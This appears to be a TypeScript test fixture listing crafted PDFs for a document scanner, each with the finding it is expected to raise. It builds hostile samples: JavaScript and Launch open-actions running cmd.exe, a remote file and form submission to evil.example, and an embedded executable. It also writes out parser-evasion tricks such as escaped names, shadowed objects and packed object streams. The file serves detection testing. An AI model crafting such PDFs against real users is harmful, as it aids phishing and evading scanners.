import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';

/** A PDF with a page that only shows something, changed as asked. */
export async function pdf(change: (document: PDFDocument) => unknown = () => {}): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage().drawText('KTP');
  await change(document);
  return document.save();
}

/** One that does something when it is opened. */
export const openAction = (action: Record<string, unknown>) =>
  pdf(({ catalog, context }) => catalog.set(PDFName.of('OpenAction'), context.obj(action as never)));

/** A PDF by hand: objects from 1 on, the first its catalogue. */
export const raw = (objects: string[], trailer = '') => {
  const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join('');
  return `%PDF-1.7\n${body}trailer\n<< /Root 1 0 R ${trailer} >>\nstartxref\n0\n%%EOF\n`;
};
/** Parts of a PDF by hand. */
export const catalog = (rest = '') => `<< /Type /Catalog /Pages 2 0 R ${rest} >>`;
export const pages = '<< /Type /Pages /Kids [<< /Type /Page >>] /Count 1 >>';

/** Objects packed into a stream. */
export const objectStream = (packed: Buffer, filter: string) =>
  `<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`;

/** Papers that are none, and the finding each gets. */
export const fakePapers: [
  name: string,
  make: () => Promise<Uint8Array | string> | string,
  expected: string[],
][] = [
  [
    'with a script on opening',
    () => openAction({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
    ['pdfScript'],
  ],
  [
    'with scripts by name',
    () => pdf((document) => document.addJavaScript('main', 'app.alert(1)')),
    ['pdfScript'],
  ],
  [
    'with a script under an escaped name',
    () => raw([catalog('/OpenAction << /S /J#61vaScript /J#53 (x) >>'), pages]),
    ['pdfScript'],
  ],
  [
    'with a script in an object a later one hides',
    () =>
      raw([
        catalog('/OpenAction 3 0 R'),
        pages,
        '<< /S /JavaScript /JS (x) >>\nendobj\n3 0 obj\n<< /S /GoTo >>',
      ]),
    ['pdfScript'],
  ],
  [
    'with a script in a packed object, and another object of its number behind it that no reader is sent to',
    () =>
      raw([
        catalog('/OpenAction 3 0 R'),
        pages,
        `null\nendobj\n9 0 obj\n${objectStream(deflateSync('3 0 << /S /JavaScript /JS (x) >>'), '/FlateDecode')}\nendobj\n3 0 obj\n<< /S /Named /N /NextPage >>`,
      ]),
    ['pdfScript'],
  ],
  [
    'with a script among packed objects that do not say what they are',
    () =>
      raw([
        catalog('/OpenAction 4 0 R'),
        pages,
        objectStream(deflateSync('4 0 << /S /JavaScript /JS (x) >>'), '/FlateDecode').replace(
          '/Type /ObjStm ',
          '',
        ),
      ]),
    ['pdfUnreadable'],
  ],
  [
    'with a script that stands within a stream, its name in pieces',
    () =>
      raw([
        catalog('/OpenAction 4 0 R'),
        pages,
        '<< /Length 49 >>\nstream\n4 0 obj << /S % of\n/JavaScript /JS (x) >> endobj\nendstream',
      ]),
    ['pdfScript'],
  ],
  [
    'with a script that stands within a stream, its kind in an object that is packed',
    () =>
      raw([
        catalog('/OpenAction 5 0 R'),
        pages,
        '<< /Length 36 >>\nstream\n5 0 obj << /S 6 0 R /JS (x) >> endobj\nendstream',
        objectStream(deflateSync('6 0 /JavaScript'), '/FlateDecode'),
      ]),
    ['pdfScript'],
  ],
  ['with an XFA form', () => raw([catalog('/AcroForm << /XFA (x) >>'), pages]), ['pdfScript']],
  ['that starts a program', () => openAction({ S: 'Launch', F: PDFString.of('cmd.exe') }), ['pdfLaunch']],
  [
    'that opens a file on a server elsewhere',
    () => openAction({ S: 'GoToR', F: PDFString.of('\\\\evil.example\\x.pdf'), D: [0, 'Fit'] }),
    ['pdfLaunch'],
  ],
  [
    'that sends what is typed into it',
    () => openAction({ S: 'SubmitForm', F: PDFString.of('https://evil.example/') }),
    ['pdfLaunch'],
  ],
  [
    'that opens a file elsewhere in an object a later one hides',
    () =>
      raw([catalog('/OpenAction 3 0 R'), pages, '<< /S /GoToR /F (x) >>\nendobj\n3 0 obj\n<< /S /GoTo >>']),
    ['pdfLaunch'],
  ],
  [
    'that starts a program by a word that stands elsewhere',
    () => raw([catalog('/OpenAction << /S 3 0 R /F (cmd.exe) >>'), pages, '/Launch']),
    ['pdfLaunch'],
  ],
  [
    'that starts a program within a stream, its name behind a comment',
    () =>
      raw([
        catalog('/OpenAction 4 0 R'),
        pages,
        '<< /Length 50 >>\nstream\n4 0 obj << /S % of\n\n/Launch /F (cmd.exe) >> endobj\nendstream',
      ]),
    ['pdfLaunch'],
  ],
  [
    'with a file within a stream, its type behind a comment',
    () =>
      raw([catalog(), pages, '<< /Length 40 >>\nstream\n4 0 obj << /Type% of\r /EmbeddedFile >>\nendstream']),
    ['pdfEmbedded'],
  ],
  [
    'with a file inside',
    () => pdf((document) => document.attach(Buffer.from('MZ'), 'a.exe')),
    ['pdfEmbedded'],
  ],
  [
    'that is encrypted',
    () => raw([catalog(), pages, '<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>'], '/Encrypt 3 0 R'),
    ['pdfEncrypted'],
  ],
  ['that only begins like one', () => '%PDF-1.7\nKartu Tanda Penduduk 3174\n%%EOF\n', ['pdfUnreadable']],
  ['without a catalogue', () => raw(['<< /Type /Font >>', pages]), ['pdfUnreadable']],
  ['without a page', () => raw([catalog(), '<< /Type /Pages /Kids [] /Count 0 >>']), ['pdfNoPage']],
  [
    'whose pages lead round in a circle',
    () => raw([catalog(), '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    ['pdfNoPage'],
  ],
  ['without an end', () => raw([catalog(), pages]).replace('%%EOF', ''), ['pdfUnreadable']],
  ['that is something else', () => 'PK\x03\x04 not a PDF', ['pdfFormat']],
  ['that is cut short', () => '%PDF-1.7\n1 0 obj\n<< /Type', ['pdfUnreadable']],
  ['nested beyond reason', () => raw([catalog(`/A ${'['.repeat(200_000)}`), pages]), ['pdfUnreadable']],
];
